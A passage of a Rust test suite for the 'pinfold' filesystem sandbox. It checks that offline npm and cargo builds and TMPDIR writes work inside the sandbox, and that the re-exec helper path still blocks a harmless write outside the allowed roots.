        "npm install --offline --no-audit --no-fund ../outside/pinfold-dep-1.0.0.tgz\nnode -e 'console.log(require(\"pinfold-dep\"))'\n",
        &|fx| {
            if fx.proj.join("node_modules/pinfold-dep/index.js").exists() {
                Ok(())
            } else {
                Err("node_modules/pinfold-dep missing".into())
            }
        },
    );
}

fn work_tmpdir_writable(u: User) {
    work_case(
        u,
        "work_tmpdir_writable",
        &|_| {},
        "test -n \"$TMPDIR\"\necho scratch > \"$TMPDIR/scratch\"\ncat \"$TMPDIR/scratch\"\nf=$(mktemp)\necho x > \"$f\"\necho \"$TMPDIR\" > tmpdir-was\n",
        &|fx| {
            if fx.proj.join("tmpdir-was").exists() {
                Ok(())
            } else {
                Err("script did not finish".into())
            }
        },
    );
}

/// `cargo build --offline` of a crate without dependencies, CARGO_HOME an empty temp dir.
/// Root only: the toolchain lives under `/root` (mode 0700), which uid 65534 cannot reach even
/// without pinfold.
fn work_cargo_build_offline(u: User) {
    let sysroot = String::from_utf8(
        Command::new("rustc")
            .args(["--print", "sysroot"])
            .output()
            .expect("run rustc")
            .stdout,
    )
    .expect("utf8");
    let sysroot = sysroot.trim().to_string();
    work_case(
        u,
        "work_cargo_build_offline",
        &|fx| {
            fx.put(
                &fx.proj.join("Cargo.toml"),
                "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
            );
            fx.put(
                &fx.proj.join("src/main.rs"),
                "fn main() { println!(\"tiny\"); }\n",
            );
            fs::create_dir_all(fx.base.join("cargo-home")).expect("mkdir");
            fx.own();
        },
        &format!(
            "export CARGO_HOME={b}/cargo-home RUSTC={s}/bin/rustc PATH={s}/bin:$PATH\n{s}/bin/cargo build --offline -q\n./target/debug/tiny\n",
            b = "$(dirname \"$PWD\")",
            s = sysroot
        ),
        &|fx| {
            if fx.proj.join("target/debug/tiny").exists() {
                Ok(())
            } else {
                Err("target/debug/tiny missing".into())
            }
        },
    );
}

/// The sandbox starts its helper by fork when pinfold runs one thread, and by re-executing
/// itself otherwise (a multi-threaded parent). `PINFOLD_SANDBOX_REEXEC=1` forces the second
/// path: the same attack must be refused there too, and statuses pass through.
fn reexec_helper_confines_too(u: User) {
    let c = Fx::new(u, "reexec_helper_confines_too");
    let argv = c.sh_script("reexec", &format!("t 'write outside' 'echo x > {}/x'\nexit 7\n", Fx::s(&c.out)));
    let r = c.control(&argv);
    c.assert_control(&r, &exists_change(&c.out.join("x")).into_iter().collect::<Vec<_>>(), true);
    drop(c);
    let mut a = Fx::new(u, "reexec_helper_confines_too");
    a.env.insert("PINFOLD_SANDBOX_REEXEC".into(), "1".into());
    let argv = a.sh_script("reexec", &format!("t 'write outside' 'echo x > {}/x'\nexit 7\n", Fx::s(&a.out)));
    let r = a.exec(&[], &argv);
    assert_eq!(r.code, Some(7), "{}: the re-executed helper must pass the status on\n{}", a.label(), r.show());
    assert!(exists_change(&a.out.join("x")).is_none(), "{}: wrote outside the roots through the re-exec path", a.label());
}
